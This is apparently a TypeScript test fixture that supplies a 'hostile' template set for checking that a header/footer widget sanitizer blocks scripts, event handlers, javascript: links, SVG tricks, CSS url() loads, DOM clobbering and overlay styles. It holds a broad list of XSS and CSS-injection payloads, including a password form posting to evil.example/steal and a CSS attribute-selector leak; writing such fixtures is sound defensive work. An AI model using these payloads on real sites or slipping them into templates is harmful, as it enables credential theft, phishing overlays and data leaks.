import { EMPTY_SET, type TemplateSet } from '../templates.ts';

/**
 * Everything that a template must not be able to do, in one set. Whatever of it takes effect leaves a trace that a
 * test can look for: `window.__hostile` is set, something is asked of `evil.example`, or the layer moves.
 */
const CSS = `
@import url("https://evil.example/a.css");
@import "//evil.example/b.css";
@font-face { font-family: Evil; src: url("https://evil.example/evil.woff2"); }
@namespace evil url("https://evil.example/ns");
@property --hostile { syntax: "*"; inherits: true; initial-value: url("https://evil.example/property"); }
:host { position: fixed !important; inset: 0; z-index: 2147483647; display: none; }
:host(*) { opacity: 0; }
:host-context(body) { visibility: hidden; }
::slotted(*) { display: none !important; }
::part(search) { display: none; }
html, body, :root, main { display: none !important; }
@layer evil { :host { inset: 0; } }
@media all { :host { position: fixed; } .hostile-pin { position: fixed; } }
.widget, .widget * { display: none !important; pointer-events: none; }
.hostile-url { background: url(https://evil.example/plain.png); }
.hostile-url { background: URL( "https://evil.example/upper.png" ); }
.hostile-url { background: u\\72l(https://evil.example/escaped.png); }
.hostile-url { background-image: image-set("https://evil.example/set.png" 1x); }
.hostile-url { background-image: -webkit-image-set(url(https://evil.example/set2.png) 1x); }
.hostile-url { list-style-image: url(//evil.example/list.png); cursor: url(https://evil.example/c.cur), auto; }
.hostile-url::before { content: url(https://evil.example/content.png); }
.hostile-url { --later: url(https://evil.example/custom.png); background: var(--later); }
.hostile-url { filter: url(https://evil.example/f.svg#x); mask: url("data:image/svg+xml,<svg onload='window.__hostile=1'/>"); }
input[name="q"][value^="a"] { background: url(https://evil.example/leak?a); }
.hostile-old { behavior: url(#default#evil); -moz-binding: url(https://evil.example/x.xml#y); width: expression(window.__hostile = 1); }
.hostile-pin { position: fixed; inset: 0; z-index: 2147483647; background: red; }
.hostile-stick { position: sticky; top: 0; POSITION: FIXED; }
`;

const SCRIPTS = `
<script>window.__hostile = 'script';</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script type="module">import 'https://evil.example/m.js'; window.__hostile = 'module';</script>
<scr<script>ipt>window.__hostile = 'nested'</scr</script>ipt>
<noscript><p title="</noscript><img src=x onerror=window.__hostile='noscript'>"></p></noscript>
<template><img src=x onerror="window.__hostile='template'"></template>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hostile='math'&gt;">
</style></mglyph></table></mtext></math>
<!--[if IE]><script>window.__hostile = 'comment'</script><![endif]-->
<style><img src=x onerror="window.__hostile='style'"></style>`;

const HANDLERS = `
<img src=x onerror=window.__hostile='onerror' alt="">
<img src="x" OnErRoR="window.__hostile='case'" alt="">
<img/src="x"/onerror="window.__hostile='slash'" alt="">
<div onclick="window.__hostile='onclick'" onmouseover="window.__hostile='over'" onfocus="window.__hostile='focus'" tabindex="1" autofocus>text</div>
<details open ontoggle="window.__hostile='toggle'"><summary>more</summary></details>
<a href="/home" onpointerenter="window.__hostile='pointer'" ping="https://evil.example/ping" download>home</a>
<button type="submit" formaction="javascript:window.__hostile='formaction'" form="login" popovertarget="x" commandfor="x">press</button>`;

const LINKS = `
<a href="javascript:window.__hostile='href'">one</a>
<a href=" JaVaScRiPt:window.__hostile='case'">two</a>
<a href="java&#9;script:window.__hostile='tab'">three</a>
<a href="java&#10;script&colon;window.__hostile='newline'">four</a>
<a href="&#1;javascript:window.__hostile='control'">five</a>
<a href="&#x6A;avascript&#58;window.__hostile='entities'">six</a>
<a href="data:text/html,<script>window.__hostile='data'</script>">seven</a>
<a href="vbscript:msgbox(1)">eight</a>
<a href="blob:https://evil.example/1" target="_parent">nine</a>
<a href="https://evil.example/frame" target="opener-name">ten</a>
<a href="https://user:pass@market.example@evil.example/">eleven</a>
<a href="{{companyName}}">twelve</a>
<a href="java{{unknown}}script:window.__hostile='token'">thirteen</a>
<img src="https://evil.example/pixel.gif?{{userFirstName}}" srcset="https://evil.example/2x.gif 2x" alt="">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__hostile=1'/>" alt="">`;

const CONTAINERS = `
<iframe src="https://evil.example/frame" srcdoc="<script>parent.__hostile='srcdoc'</script>"></iframe>
<object data="https://evil.example/o.swf" type="application/x-shockwave-flash"><embed src="https://evil.example/e"></object>
<form action="https://evil.example/steal" method="post"><input name="password" type="password" autofocus><select><option>x</option></select><textarea></textarea></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel="stylesheet" href="https://evil.example/l.css">
<link rel="preload" as="image" href="https://evil.example/preload.png">
<video src="https://evil.example/v.mp4" poster="https://evil.example/poster.png" autoplay></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<marquee onstart="window.__hostile='marquee'">text</marquee>
<dialog open class="hostile-pin">sign in again</dialog>
<slot name="stolen"></slot>
<mp-header market-url="https://evil.example" api-url="https://evil.example"></mp-header>
<mp-footer></mp-footer>
<span is="mp-header" slot="x" part="search" exportparts="search" contenteditable popover inert nonce="x">text</span>`;

const DRAWINGS = `
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="window.__hostile='svg'">
  <script>window.__hostile = 'svg-script'</script>
  <foreignObject width="10" height="10"><iframe src="javascript:window.__hostile='foreign'"></iframe></foreignObject>
  <use href="https://evil.example/s.svg#x"/><use xlink:href="data:image/svg+xml,<svg id='x' onload='window.__hostile=1'/>#x"/>
  <image href="https://evil.example/image.png"/>
  <a xlink:href="javascript:window.__hostile='xlink'"><text y="10">text</text></a>
  <a id="moved"><text>text</text><animate attributeName="href" values="javascript:window.__hostile='animate'"/></a>
  <set attributeName="onmouseover" to="window.__hostile='set'"/>
  <rect width="9" height="9" fill="url(https://evil.example/f.svg#g)" style="fill:url(https://evil.example/s.svg#g)"/>
  <style>@import "https://evil.example/svg.css"; * { position: fixed }</style>
  <desc><p><img src=x onerror="window.__hostile='desc'"></p></desc>
</svg>`;

/** Names that scripts of the page look up, and styles that leave their place. */
const CLOBBERS = `
<div id="content"></div><a id="location" name="cookie">text</a><img name="currentScript" alt="">
<p class="hostile-pin hostile-url" style="position:fixed;inset:0;background:url(https://evil.example/inline.png)">Your session is over.</p>
<p style="position: fix\\65 d; --x: }:host{display:none}; background: u\\72l('https://evil.example/esc.png')">text</p>
<ul><li>{{loginItem}}</li></ul>{{constructor}}{{__proto__}}{{toString}}`;

const HEADER = `<div class="hostile">${SCRIPTS}${HANDLERS}${LINKS}${CONTAINERS}${DRAWINGS}${CLOBBERS}
  {{logo}} {{searchBox}} {{userList}}</div>`;

export const HOSTILE_SET: TemplateSet = {
  ...EMPTY_SET,
  css: CSS,
  cssHeader: '.hostile { min-height: 51px; } } :host { position: fixed; inset: 0 } .x {',
  headerIn: HEADER,
  headerOut: HEADER,
  headerSso: SCRIPTS + LINKS,
  headerCheckout: `${DRAWINGS}{{logo}}`,
  footer: `${HANDLERS}${CONTAINERS}<p>© {{copyrightYear}} {{companyName}}</p>`,
  translations: { 'unav.login': '<img src=x onerror="window.__hostile=\'text\'">', 'unav.register': '{{constructor}}' },
  assets: { logo: 'javascript:window.__hostile=1', pixel: 'https://evil.example/asset.png' },
};
